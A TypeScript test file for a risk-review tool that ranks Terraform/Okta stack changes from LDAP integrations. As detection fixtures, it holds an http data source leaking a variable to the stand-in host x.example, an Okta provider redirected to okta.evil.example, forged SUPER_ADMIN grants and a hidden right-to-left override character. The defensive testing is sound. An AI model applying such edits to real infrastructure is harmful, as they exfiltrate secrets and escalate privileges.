import * as fs from 'fs';
import * as path from 'path';
import { IntegrationManifest, StackManifest, TerraformBlock } from '../../lib/manifest/integration-manifest';
import { readTerraformConfig } from '../../lib/manifest/terraform-blocks';
import { OktaAdminRole } from '../../lib/mappings/mapping-types';
import { integrationChanges } from '../../lib/review/app-diff';
import { reviewStackResources } from '../../lib/review/resource-review';
import { buildReview } from '../../lib/review/review';
import { RiskLevel } from '../../lib/review/risk-rule';
import { isWideRole, RISK_RULES, riskRuleFor } from '../../lib/review/risk-rules';
import {
  parseTerraformPlan,
  PlanAction,
  PlannedResource,
  TerraformPlan,
} from '../../lib/review/terraform-plan';
import { LdapConnectionSecurity } from '../../lib/settings/setting-choices';
import { readSynthesizedApp } from '../../lib/manifest/read-synthesized-app';
import { policyScopeChanges } from '../../lib/review/stack-checks';
import { tempDir } from '../support/temp-dir';
import {
  bareManifest,
  editStack,
  ParsedJson,
  sampleManifest,
  terraformOf,
  writeSynthesizedApp,
} from './synthesized-app-fixture';

const base = sampleManifest();
const s = base.settings;
const app = (...integrations: IntegrationManifest[]): StackManifest[] => [
  { stack: 'org', workingDirectory: 'stacks/org', integrations },
];
const head = (overrides: Partial<IntegrationManifest>): IntegrationManifest => sampleManifest(overrides);

/** Rule ids of the changes between base and head (or of the plan's resources). */
function ruleIds(
  b: IntegrationManifest[] | undefined,
  h: IntegrationManifest[],
  resources: PlannedResource[] = [],
): string[] {
  // The unchanged profile mapping ties the plan to the stack, as every real plan of it would.
  const unchanged = planned('okta_profile_mapping.JumpCloud_UserMapping', PlanAction.NO_OP);
  const plan: TerraformPlan = {
    file: 'plan.json',
    formatVersion: '1.2',
    resources: [unchanged, ...resources],
  };
  const review = buildReview(b === undefined ? undefined : app(...b), app(...h), {
    plans: resources.length > 0 ? [{ plan }] : [],
  });
  return [
    ...review.changes.filter((c) => c.source !== 'plan').map((c) => c.rule.id),
    ...review.plans.flatMap((p) => p.resources.map((r) => r.rule.id)),
  ];
}

type Tf = Record<string, Record<string, ParsedJson>>;
/** The okta blocks an honest stack of these manifests holds, after `edit` (e.g. a forged attribute). */
function blocksOf(
  integrations: IntegrationManifest[],
  edit: (tf: { resource: Tf; data: Tf }) => void = () => {},
): TerraformBlock[] {
  const tf = { resource: {} as Tf, data: {} as Tf };
  for (const m of integrations) {
    const own = terraformOf(m);
    for (const side of ['resource', 'data'] as const) {
      for (const [type, byName] of Object.entries(own[side])) Object.assign((tf[side][type] ??= {}), byName);
    }
  }
  edit(tf);
  return readTerraformConfig(tf, 'cdk.tf.json').okta;
}

/**
 * Rule ids of the resource-level review of one stack from `b` to `h` (manifests with their blocks):
 * of its resource changes, or of the findings of its manifest check.
 */
function resourceRuleIds(
  b: [IntegrationManifest[], TerraformBlock[]],
  h: [IntegrationManifest[], TerraformBlock[]],
  part: 'changes' | 'findings',
): string[] {
  const stack = (integrations: IntegrationManifest[], terraform: TerraformBlock[]): StackManifest => ({
    stack: 'org',
    workingDirectory: 'stacks/org',
    integrations,
    terraform,
  });
  const changesOf = (id: string) =>
    integrationChanges(
      b[0].find((i) => i.id === id),
      h[0].find((i) => i.id === id),
    );
  const review = reviewStackResources('org', stack(...b), stack(...h), changesOf);
  return part === 'findings'
    ? review.findings.map((f) => riskRuleFor({ kind: 'manifest-check', finding: f.kind }).id)
    : review.changes.map((c) => riskRuleFor({ kind: 'terraform', change: c, explained: c.explained }).id);
}
const honest: [IntegrationManifest[], TerraformBlock[]] = [[base], blocksOf([base])];
const forged = (
  edit: (tf: { resource: Tf; data: Tf }) => void,
): [IntegrationManifest[], TerraformBlock[]] => [[base], blocksOf([base], edit)];

const planned = (address: string, action: PlanAction, drifted = false): PlannedResource => ({
  address,
  type: address.split('.')[0]!,
  action,
  replacePaths: action === PlanAction.REPLACE ? ['group_assignments'] : [],
  drifted,
});
const RULE = 'okta_group_rule.JumpCloud_Rule_engineering';
const withSetting = (
  section: 'agent' | 'schema' | 'user' | 'group' | 'role' | 'provisioning',
  value: object,
) => head({ settings: { ...s, [section]: { ...s[section], ...value } } });

/**
 * Rule ids of the review of a hand-written app of the sample manifest (base) against the same app
 * edited by `editHead` in its stack folder, as a pull request's code can after synth. `editBase`
 * edits both.
 */
function folderRuleIds(
  editHead: (stackDir: string) => void,
  editBase: (stackDir: string) => void = () => {},
): string[] {
  const write = (edits: ((stackDir: string) => void)[]): ReturnType<typeof readSynthesizedApp> => {
    const outdir = writeSynthesizedApp(tempDir('risk-folder-'), { org: [base] });
    for (const edit of edits) edit(path.join(outdir, 'stacks', 'org'));
    return readSynthesizedApp(outdir);
  };
  return buildReview(write([editBase]), write([editBase, editHead])).changes.map((c) => c.rule.id);
}
const editJson = (stackDir: string, edit: (tf: ParsedJson) => void): void =>
  editStack(path.dirname(path.dirname(stackDir)), path.basename(stackDir), edit);
const GUARD = 'terraform_data.JumpCloud_PreflightGuard_0A1B2C3D';

/** One case per rule of the risk table: the change, and the rule it must get. */
const CASES: Record<string, () => string[]> = {
  'RISK-GUARD': () => {
    const guarded = bareManifest({
      resources: [{ type: 'terraform_data', address: GUARD, purpose: 'preflight' }],
    });
    const stack = (m: IntegrationManifest): StackManifest => ({
      stack: 'org',
      workingDirectory: 'stacks/org',
      integrations: [m],
      terraform: [],
      otherBlocks: [],
    });
    return buildReview([stack(guarded)], [stack(bareManifest())]).changes.map((c) => c.rule.id);
  },
  'RISK-SIDE-EFFECT': () =>
    folderRuleIds((dir) =>
      editJson(dir, (tf) => (tf.data.http = { Leak: { url: 'https://x.example/${var.t}' } })),
    ),
  'RISK-PRIVILEGE-GRANT': () =>
    ruleIds([base], [base], [planned('okta_user_admin_roles.Forged', PlanAction.CREATE)]),
  'RISK-STATE-BLOCK': () =>
    folderRuleIds((dir) =>
      editJson(dir, (tf) => (tf.removed = [{ from: 'okta_group_role.x', lifecycle: { destroy: false } }])),
    ),
  'RISK-CREDENTIALS': () =>
    folderRuleIds(
      (dir) => editJson(dir, (tf) => (tf.provider = { okta: [{ base_url: 'okta.evil.example' }] })),
      (dir) => editJson(dir, (tf) => (tf.provider = { okta: [{}] })),
    ),
  'RISK-POLICY-SCOPE': () => {
    const outdir = writeSynthesizedApp(tempDir('risk-policy-'), { org: [base] });
    const policy = (groups: string[]) => (tf: ParsedJson) =>
      (tf.resource.okta_policy_password = { P: { name: 'LDAP users', groups_included: groups } });
    editJson(path.join(outdir, 'stacks', 'org'), policy(['00gEngineering']));
    const [before] = readSynthesizedApp(outdir);
    editJson(path.join(outdir, 'stacks', 'org'), policy(['00gEngineering', '00gEveryone']));
    const [after] = readSynthesizedApp(outdir);
    return policyScopeChanges(before, after!).map(
      (f) => riskRuleFor({ kind: 'stack-check', check: f.kind }).id,
    );
  },
  'RISK-DUPLICATE-KEY': () =>
    folderRuleIds((dir) => {
      const file = path.join(dir, 'cdk.tf.json');
      fs.writeFileSync(
        file,
        fs.readFileSync(file, 'utf8').replace(/^\{/, '{"locals":{"a":1},"locals":{"b":2},'),
      );
    }),
  'RISK-EXTRA-CONFIG': () =>
    folderRuleIds((dir) => fs.writeFileSync(path.join(dir, 'extra.tf.json'), '{"variable":{"x":{}}}')),
  'RISK-UNREVIEWED-CONFIG': () =>
    folderRuleIds((dir) => fs.writeFileSync(path.join(dir, 'main.tf'), 'locals {}\n')),
  'RISK-STACK-PATH': () =>
    folderRuleIds((dir) => {
      fs.mkdirSync(path.join(dir, '..', 'shadow'));
      fs.writeFileSync(path.join(dir, '..', 'shadow', 'cdk.tf.json'), '{}');
    }),
  'RISK-OTHER-RESOURCE': () =>
    folderRuleIds((dir) => editJson(dir, (tf) => (tf.resource.aws_iam_user = { Admin: { name: 'x' } }))),
  'RISK-TERRAFORM-SETTING': () =>
    folderRuleIds((dir) => editJson(dir, (tf) => (tf.terraform = { required_version: '>= 1.0' }))),
  'RISK-MANIFEST-MISMATCH': () =>
    resourceRuleIds(
      honest,
      forged((tf) => (tf.resource.okta_profile_mapping!.JumpCloud_UserMapping!.delete_when_absent = true)),
      'findings',
    ),
  'RISK-UNACCOUNTED-RESOURCE': () =>
    resourceRuleIds(
      honest,
      forged((tf) => (tf.resource.okta_app_oauth = { Portal: { label: 'Portal' } })),
      'findings',
    ),
  'RISK-INTEGRATION-REMOVED': () => ruleIds([bareManifest()], []),
  'RISK-ROLE-CUSTOM': () =>
    ruleIds(
      [base],
      [
        head({
          roleMappings: [
            ...base.roleMappings,
            { ldapGroup: 'ops', role: OktaAdminRole.CUSTOM, roleId: 'cr0abc', resourceSetId: 'iam0xyz' },
          ],
        }),
      ],
    ),
  'RISK-ROLE-WIDE': () =>
    ruleIds(
      [base],
      [head({ roleMappings: [...base.roleMappings, { ldapGroup: 'ops', role: OktaAdminRole.SUPER_ADMIN }] })],
    ),
  'RISK-ROLE-WIDENED': () =>
    ruleIds(
      [
        head({
          roleMappings: [{ ldapGroup: 'hd', role: OktaAdminRole.HELP_DESK_ADMIN, targetGroupIds: ['00g1'] }],
        }),
      ],
      [head({ roleMappings: [{ ldapGroup: 'hd', role: OktaAdminRole.HELP_DESK_ADMIN }] })],
    ),
  'RISK-LDAP-APP': () => ruleIds([base], [head({ ldapAppId: '0oaOTHER' })]),
  'RISK-UNIQUE-ID': () =>
    ruleIds([base], [withSetting('schema', { uniqueIdentifierAttribute: 'entryuuid' })]),
  'RISK-USER-SCOPE': () =>
    ruleIds([base], [withSetting('user', { objectFilter: '(&(objectclass=inetorgperson)(o=x))' })]),
  'RISK-GROUP-SCOPE': () =>
    ruleIds([base], [withSetting('group', { searchBase: `ou=Groups,${s.agent.rootDn}` })]),
  'RISK-USERNAME-FORMAT': () => ruleIds([base], [withSetting('provisioning', { usernameFormat: 'UID' })]),
  'RISK-SECURITY-WEAKENED': () =>
    ruleIds([base], [withSetting('agent', { connectionSecurity: LdapConnectionSecurity.STARTTLS })]),
  'RISK-BIND-DN': () => ruleIds([base], [withSetting('agent', { bindDn: `uid=other,${s.agent.rootDn}` })]),
  'RISK-DELETE-WHEN-ABSENT': () => ruleIds([base], [head({ deleteWhenAbsent: true })]),
  'RISK-GROUP-RENAMED': () =>
    ruleIds(
      [base],
      [
        head({
          groupMappings: [base.groupMappings[0]!, { ...base.groupMappings[1]!, oktaGroup: 'Sales EMEA' }],
        }),
      ],
    ),
  'RISK-GROUP-MAPPING-REMOVED': () => ruleIds([base], [head({ groupMappings: [base.groupMappings[0]!] })]),
  'RISK-PROFILE-EXPRESSION': () =>
    ruleIds([base], [head({ userMappings: { ...base.userMappings, email: 'appuser.mail' } })]),
  'RISK-PROFILE-PROPERTY-DELETED': () =>
    ruleIds(
      [head({ deleteWhenAbsent: true })],
      [
        head({
          deleteWhenAbsent: true,
          userMappings: { firstName: 'appuser.givenName', lastName: 'appuser.sn' },
        }),
      ],
    ),
  'RISK-PROFILE-MAPPING-DESTROYED': () =>
    ruleIds([base], [base], [planned('okta_profile_mapping.JumpCloud_UserMapping', PlanAction.DELETE)]),
  'RISK-RULE-REPLACED': () => ruleIds([base], [base], [planned(RULE, PlanAction.REPLACE)]),
  'RISK-GROUP-RULE-CHANGED': () =>
    resourceRuleIds(
      honest,
      forged(
        (tf) => (tf.resource.okta_group_rule!.JumpCloud_Rule_engineering!.group_assignments = ['00gAdmins']),
      ),
      'changes',
    ),
  'RISK-PROFILE-MAPPING-CHANGED': () =>
    resourceRuleIds(
      honest,
      forged((tf) => (tf.resource.okta_profile_mapping!.JumpCloud_UserMapping!.source_id = '0oaOTHER')),
      'changes',
    ),
  'RISK-GROUP-DESTROYED': () =>
    ruleIds([base], [base], [planned('okta_group.JumpCloud_Group_engineering', PlanAction.REPLACE)]),
  'RISK-SCHEMA-PROPERTY-DESTROYED': () =>
    ruleIds([base], [base], [planned('okta_app_user_schema_property.JumpCloud_Attr', PlanAction.DELETE)]),
  'RISK-HIDDEN-CHARACTERS': () =>
    ruleIds(
      [base],
      [
        head({
          groupMappings: [
            ...base.groupMappings,
            { ldapGroup: 'help\u202edesk', oktaGroup: 'Help desk', description: 'read-only' },
          ],
        }),
      ],
    ),
  'RISK-ROLE-GRANT': () =>
    ruleIds(
      [base],
      [
        head({
          roleMappings: [...base.roleMappings, { ldapGroup: 'audit', role: OktaAdminRole.READ_ONLY_ADMIN }],
        }),
      ],
    ),
  'RISK-ROLE-TARGETS-ADDED': () =>
    ruleIds(
      [
        head({
          roleMappings: [{ ldapGroup: 'hd', role: OktaAdminRole.USER_ADMIN, targetGroupIds: ['00g1'] }],
        }),
      ],
      [
        head({
          roleMappings: [
            { ldapGroup: 'hd', role: OktaAdminRole.USER_ADMIN, targetGroupIds: ['00g1', '00g2'] },
          ],
        }),
      ],
    ),
  'RISK-ROLE-REMOVED': () => ruleIds([base], [head({ roleMappings: [] })]),
  'RISK-SCOPE-WIDENED': () =>
    ruleIds([base], [withSetting('user', { searchBase: 'o=5f3c0a1b2c3d4e5f60718293,dc=jumpcloud,dc=com' })]),
  'RISK-ACCOUNT-STATUS': () => ruleIds([base], [withSetting('user', { accountDisabledValue: 'TRUE' })]),
  'RISK-GROUP-MEMBERSHIP': () => ruleIds([base], [withSetting('group', { memberAttribute: 'uniquemember' })]),
  'RISK-AGENT-CONNECTION': () => ruleIds([base], [withSetting('agent', { host: 'ldap.eu.jumpcloud.com' })]),
  'RISK-PROFILE-PROPERTY-ADDED': () =>
    ruleIds([base], [head({ userMappings: { ...base.userMappings, mobilePhone: 'appuser.mobile' } })]),
  'RISK-PASSWORD-POLICY': () => ruleIds([base], [head({ passwordPolicy: undefined })]),
  'RISK-DRIFT': () => ruleIds([base], [base], [planned(RULE, PlanAction.UPDATE, true)]),
  'RISK-PLAN-FORGET-GRANT': () =>
    ruleIds([base], [base], [planned('okta_group_role.JumpCloud_Role_it-admins', PlanAction.FORGET)]),
  'RISK-PLAN-DESTROY': () =>
    ruleIds([base], [base], [planned('okta_group_role.JumpCloud_Role_it-admins', PlanAction.DELETE)]),
  'RISK-UNEXPLAINED-CHANGE': () =>
    resourceRuleIds(
      honest,
      forged((tf) => (tf.resource.okta_group!.JumpCloud_Group_engineering!.description = 'x')),
      'changes',
    ),
  'RISK-GUARD-RERUN': () => {
    const guarded = head({
      resources: [
        ...base.resources,
        { type: 'terraform_data', address: 'terraform_data.JumpCloud_Guard', purpose: 'preflight' },
      ],
    });
    return ruleIds([guarded], [guarded], [planned('terraform_data.JumpCloud_Guard', PlanAction.REPLACE)]);
  },
  'RISK-PLAN-ADOPT': () =>
    ruleIds([base], [base], [{ ...planned(RULE, PlanAction.NO_OP), importId: '0prEngineeringRule09' }]),
  'RISK-PLAN-CHANGE': () => ruleIds([base], [base], [planned(RULE, PlanAction.UPDATE)]),
  'RISK-SETTING': () => ruleIds([base], [withSetting('user', { passwordAttribute: 'userPassword2' })]),
  'RISK-OTHER': () =>
    ruleIds(
      [base],
      [head({ groupMappings: [...base.groupMappings, { ldapGroup: 'ops', oktaGroup: 'Ops' }] })],
    ),
};

describe('the risk table', () => {
  test('every rule has a case, and every case names a rule', () => {
    expect(Object.keys(CASES).sort()).toEqual(RISK_RULES.map((r) => r.id).sort());
  });

  test.each(Object.keys(CASES))('%s: its case gets exactly this rule', (id) => {
    expect(CASES[id]!()).toEqual([id]);
  });

  test('rules are ordered high, then medium, then low; the last applies to everything', () => {
    const levels = RISK_RULES.map((r) => r.level);
    const order = [RiskLevel.HIGH, RiskLevel.MEDIUM, RiskLevel.LOW];
    expect([...levels].sort((a, b) => order.indexOf(a) - order.indexOf(b))).toEqual(levels);
    expect(RISK_RULES[RISK_RULES.length - 1]!.applies({ kind: 'integration', change: 'added' })).toBe(true);
  });

  test('wide and narrow admin roles', () => {
    expect(isWideRole({ role: OktaAdminRole.SUPER_ADMIN })).toBe(true);
    expect(isWideRole({ role: OktaAdminRole.ORG_ADMIN })).toBe(true);
    expect(isWideRole({ role: OktaAdminRole.APP_ADMIN })).toBe(true);
    expect(isWideRole({ role: OktaAdminRole.HELP_DESK_ADMIN })).toBe(true);
    expect(isWideRole({ role: OktaAdminRole.HELP_DESK_ADMIN, targetGroupIds: ['00g1'] })).toBe(false);
    expect(isWideRole({ role: OktaAdminRole.READ_ONLY_ADMIN })).toBe(false);
  });

  test('a role changed from READ_ONLY_ADMIN to SUPER_ADMIN is one high-risk grant; back down it is one medium change', () => {
    const ro = head({ roleMappings: [{ ldapGroup: 'it', role: OktaAdminRole.READ_ONLY_ADMIN }] });
    const su = head({ roleMappings: [{ ldapGroup: 'it', role: OktaAdminRole.SUPER_ADMIN }] });
    expect(ruleIds([ro], [su])).toEqual(['RISK-ROLE-WIDE']);
    expect(ruleIds([su], [ro])).toEqual(['RISK-ROLE-GRANT']);
  });

  test('connection security made stronger is low risk; a description change is low risk', () => {
    const starttls = withSetting('agent', { connectionSecurity: LdapConnectionSecurity.STARTTLS });
    expect(ruleIds([starttls], [base])).toEqual(['RISK-SETTING']);
    const described = head({
      groupMappings: [{ ...base.groupMappings[0]!, description: 'x' }, base.groupMappings[1]!],
    });
    expect(ruleIds([base], [described])).toEqual(['RISK-OTHER']);
  });

  test('a resource deleted because its mapping was removed is explained by the diff, not a second finding', () => {
    const removed = head({
      groupMappings: [base.groupMappings[1]!],
      resources: base.resources.filter((r) => !r.address.includes('engineering')),
    });
    expect(ruleIds([base], [removed], [planned(RULE, PlanAction.DELETE)])).toEqual([
      'RISK-GROUP-MAPPING-REMOVED',
      'RISK-PLAN-CHANGE',
    ]);
  });

  test('okta resources changed in cdk.tf.json are ranked by their own attributes, like the manifest changes', () => {
    const roles = (...rs: Record<string, unknown>[]) =>
      forged((tf) => {
        tf.resource.okta_group_role = Object.fromEntries(rs.map((r, i) => [`Role${i}`, r]));
      });
    const superAdmin = { group_id: '00g1', role_type: 'SUPER_ADMIN' };
    const helpDesk = { group_id: '00g1', role_type: 'HELP_DESK_ADMIN', target_group_list: ['00g2'] };
    expect(resourceRuleIds(honest, roles(superAdmin), 'changes')).toEqual(['RISK-ROLE-WIDE']);
    expect(resourceRuleIds(honest, roles({ ...helpDesk, target_group_list: [] }), 'changes')).toEqual([
      'RISK-ROLE-WIDE',
    ]);
    expect(resourceRuleIds(honest, roles(helpDesk), 'changes')).toEqual(['RISK-ROLE-GRANT']);
    expect(resourceRuleIds(roles(helpDesk), honest, 'changes')).toEqual(['RISK-ROLE-REMOVED']);
    // A wide role whose notification setting alone changes grants nothing new.
    expect(
      resourceRuleIds(roles(superAdmin), roles({ ...superAdmin, disable_notifications: true }), 'changes'),
    ).toEqual(['RISK-UNEXPLAINED-CHANGE']);
    // Every unexplained change of an unaccounted okta resource is at least medium.
    expect(
      resourceRuleIds(
        honest,
        forged((tf) => ((tf.data.okta_groups ??= {}).X = { search: 'x' })),
        'changes',
      ),
    ).toEqual(['RISK-UNEXPLAINED-CHANGE']);
  });

  test('a password policy resource loses a group, changes priority or stops being for LDAP: medium', () => {
    const policy = (attrs: Record<string, unknown>) =>
      forged(
        (tf) => (tf.resource.okta_policy_password = { P: { name: 'p', auth_provider: 'LDAP', ...attrs } }),
      );
    const both = policy({ groups_included: ['${okta_group.A.id}', '${okta_group.B.id}'] });
    const ids = (from: ReturnType<typeof policy>, to: ReturnType<typeof policy>) =>
      resourceRuleIds(from, to, 'changes');
    expect(ids(both, policy({ groups_included: ['${okta_group.A.id}'] }))).toEqual(['RISK-PASSWORD-POLICY']);
    expect(ids(both, policy({ groups_included: ['${okta_group.B.id}', '${okta_group.A.id}'] }))).toEqual([]);
    expect(ids(policy({ groups_included: ['${okta_group.A.id}'] }), both)).toEqual([
      'RISK-UNEXPLAINED-CHANGE',
    ]);
    expect(
      ids(both, policy({ groups_included: ['${okta_group.A.id}', '${okta_group.B.id}'], priority: 1 })),
    ).toEqual(['RISK-PASSWORD-POLICY']);
    expect(ids(both, honest)).toEqual(['RISK-PASSWORD-POLICY']);
  });

  test('plans: an okta_group_role is ranked by its planned attributes, under no integration too', () => {
    const plan = parseTerraformPlan(
      {
        format_version: '1.2',
        resource_changes: [
          {
            address: 'okta_profile_mapping.JumpCloud_UserMapping',
            type: 'okta_profile_mapping',
            change: { actions: ['no-op'] },
          },
          {
            address: 'okta_group_role.Forged',
            type: 'okta_group_role',
            change: {
              actions: ['create'],
              before: null,
              after: { role_type: 'SUPER_ADMIN' },
              after_unknown: { group_id: true, id: true },
            },
          },
          {
            address: 'okta_group_role.HelpDesk',
            type: 'okta_group_role',
            change: {
              actions: ['create'],
              before: null,
              after: { role_type: 'HELP_DESK_ADMIN' },
              after_unknown: { target_group_list: [true] },
            },
          },
          {
            address: 'okta_group_role.Quiet',
            type: 'okta_group_role',
            change: {
              actions: ['update'],
              before: { role_type: 'ORG_ADMIN', disable_notifications: false },
              after: { role_type: 'ORG_ADMIN', disable_notifications: true },
            },
          },
        ],
      },
      'plan.json',
    );
    expect(plan.resources[1]).toMatchObject({
      after: { role_type: 'SUPER_ADMIN' },
      afterUnknown: ['group_id', 'id'],
    });
    expect(plan.resources[1]).not.toHaveProperty('before');
    const review = buildReview(app(base), app(base), { plans: [{ plan }] });
    expect(review.plans[0]!.resources.map((r) => [r.address, r.integration, r.rule.id])).toEqual([
      ['okta_group_role.Forged', '', 'RISK-ROLE-WIDE'],
      // Targets known only at apply are targets: a limited role.
      ['okta_group_role.HelpDesk', '', 'RISK-PLAN-CHANGE'],
      ['okta_group_role.Quiet', '', 'RISK-PLAN-CHANGE'],
    ]);
    expect(
      review.changes.map((c) => [c.rule.level, c.rule.id, c.source, c.integration, c.resource?.address]),
    ).toEqual([[RiskLevel.HIGH, 'RISK-ROLE-WIDE', 'plan', '', 'okta_group_role.Forged']]);
  });

  test('docs/review.md lists the same table (id, level, title, reason)', () => {
    const doc = fs.readFileSync(path.join(__dirname, '..', '..', 'docs', 'review.md'), 'utf8');
    const rows = [...doc.matchAll(/^\| `(RISK-[A-Z-]+)` +\| (\w+) +\| (.+?) +\| (.+?) +\|$/gm)].map((m) => ({
      id: m[1],
      level: m[2],
      title: m[3],
      reason: m[4],
    }));
    expect(rows).toEqual(
      RISK_RULES.map((r) => ({ id: r.id, level: r.level, title: r.title, reason: r.reason })),
    );
  });
});
